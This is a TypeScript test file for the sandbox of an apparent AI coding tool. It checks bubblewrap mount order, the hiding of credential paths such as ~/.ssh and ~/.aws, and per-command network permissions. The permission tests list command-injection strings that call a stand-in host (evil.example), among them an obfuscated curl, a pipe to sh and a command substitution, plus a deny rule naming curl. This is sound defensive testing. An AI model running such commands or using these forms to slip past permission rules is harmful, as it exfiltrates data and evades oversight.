/** The order of bubblewrap's mounts, and which credential paths are found to hide. */
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { type PermissionMode, PermissionPolicy, parseRule } from '../../src/tools/permissions.js';
import { bwrapArgs, hiddenPaths, mountPlan, Sandbox } from '../../src/tools/sandbox/index.js';
import { tempDir } from './helpers.js';

const plan = (writable: string[], hidden: Array<[string, 'dir' | 'file']>) =>
  mountPlan({ writable, hidden: hidden.map(([p, kind]) => ({ path: p, kind })) }).map(
    (m) => `${m.op} ${m.path}`,
  );

describe('mountPlan', () => {
  it('binds a workspace under /tmp after the private /tmp', () => {
    expect(plan(['/tmp/tea-x/work'], [])).toEqual(['tmp /tmp', 'bind /tmp/tea-x/work']);
  });

  it('hides ~/.ssh after binding a workspace that is the home directory', () => {
    expect(
      plan(
        ['/home/u'],
        [
          ['/home/u/.ssh', 'dir'],
          ['/home/u/.netrc', 'file'],
        ],
      ),
    ).toEqual(['tmp /tmp', 'bind /home/u', 'hide-dir /home/u/.ssh', 'hide-file /home/u/.netrc']);
  });

  it("binds a root inside Tea's hidden home after hiding it; an explicit root at a hidden path wins", () => {
    expect(plan(['/w', '/home/u/.tea/tool-output/s1'], [['/home/u/.tea', 'dir']])).toEqual([
      'tmp /tmp',
      'bind /w',
      'hide-dir /home/u/.tea',
      'bind /home/u/.tea/tool-output/s1',
    ]);
    expect(plan(['/home/u/.aws'], [['/home/u/.aws', 'dir']])).toEqual([
      'tmp /tmp',
      'hide-dir /home/u/.aws',
      'bind /home/u/.aws',
    ]);
  });

  it("mounts read-only spots (a repository's hooks and config) after the writable root", () => {
    const plan = mountPlan({ writable: ['/w'], hidden: [], readOnly: ['/w/.git/hooks', '/w/.git/config'] });
    expect(plan.map((m) => `${m.op} ${m.path}`)).toEqual([
      'tmp /tmp',
      'bind /w',
      'ro /w/.git/hooks',
      'ro /w/.git/config',
    ]);
  });

  it('skips hidden paths under the private /tmp unless a writable root brings them back', () => {
    expect(plan(['/w'], [['/tmp/h/.ssh', 'dir']])).toEqual(['tmp /tmp', 'bind /w']);
    expect(plan(['/tmp/h'], [['/tmp/h/.ssh', 'dir']])).toEqual([
      'tmp /tmp',
      'bind /tmp/h',
      'hide-dir /tmp/h/.ssh',
    ]);
  });
});

describe('bwrapArgs', () => {
  it('drops capabilities, unshares pid/ipc/uts and (unless allowed) the network, and dies with Tea', () => {
    const base = {
      cwd: '/w',
      writable: ['/w'],
      hidden: [],
      newSession: false,
      command: 'bash',
      args: ['-c', 'x'],
    };
    const off = bwrapArgs({ ...base, network: false });
    expect(off).toEqual([
      '--die-with-parent',
      '--unshare-pid',
      '--unshare-ipc',
      '--unshare-uts',
      '--unshare-cgroup-try',
      '--unshare-net',
      '--cap-drop',
      'ALL',
      '--ro-bind',
      '/',
      '/',
      '--dev',
      '/dev',
      '--proc',
      '/proc',
      '--tmpfs',
      '/tmp',
      '--bind',
      '/w',
      '/w',
      '--chdir',
      '/w',
      '--',
      'bash',
      '-c',
      'x',
    ]);
    const on = bwrapArgs({ ...base, network: true, newSession: true });
    expect(on).not.toContain('--unshare-net');
    expect(on).toContain('--new-session');
  });
});

describe('hiddenPaths', () => {
  it('finds existing credential paths under each home, resolving symlinks; missing ones are skipped', async () => {
    const root = await tempDir();
    const home = path.join(root, 'home');
    const dotfiles = path.join(root, 'dotfiles');
    mkdirSync(path.join(home, '.ssh'), { recursive: true });
    mkdirSync(dotfiles);
    writeFileSync(path.join(dotfiles, 'npmrc'), '//registry/:_authToken=x');
    symlinkSync(path.join(dotfiles, 'npmrc'), path.join(home, '.npmrc'));
    const teaHome = path.join(root, 'tea-data');
    mkdirSync(teaHome);
    const found = hiddenPaths({ homes: [home], teaHome }).filter((h) => h.path.startsWith(root));
    expect(found).toEqual([
      { path: path.join(home, '.ssh'), kind: 'dir' },
      { path: path.join(dotfiles, 'npmrc'), kind: 'file' },
      { path: teaHome, kind: 'dir' },
    ]);
  });
});

describe('network per command', () => {
  const policy = (mode: PermissionMode, rules: string[]) =>
    new PermissionPolicy(
      mode,
      rules.map((r) => parseRule(r)),
    );
  const sandbox = new Sandbox({ mode: 'on' });
  const where = { cwd: '/work/ws', roots: ['/work/ws'] };

  it.each([
    ['npm install', ['network:npm install*'], 'ask', true],
    ['npm install left-pad', ['network:npm install*'], 'ask', true],
    ['npm install; curl https://evil.example', ['network:npm install*'], 'ask', false],
    ['npm install && c""url evil.example', ['network:npm install*'], 'ask', false],
    ['npm install | sh', ['network:npm install*'], 'ask', false],
    ['npm install $(curl evil.example)', ['network:npm install*'], 'ask', false],
    ['curl evil.example', [], 'ask', false],
    ['curl evil.example', [], 'yolo', true],
    ['curl evil.example', ['deny:network:*curl*'], 'yolo', false],
  ] as const)('%s with %j in %s mode → network %s', async (command, rules, mode, expected) => {
    expect(await sandbox.networkFor(policy(mode, [...rules]), command, where)).toBe(expected);
  });

  it('the config can turn it on for every command, and a deny rule still wins', async () => {
    const open = new Sandbox({ mode: 'on', network: true });
    expect(await open.networkFor(policy('ask', []), 'curl example.com', where)).toBe(true);
    expect(await open.networkFor(policy('ask', ['deny:network:*curl*']), 'curl example.com', where)).toBe(
      false,
    );
  });
});
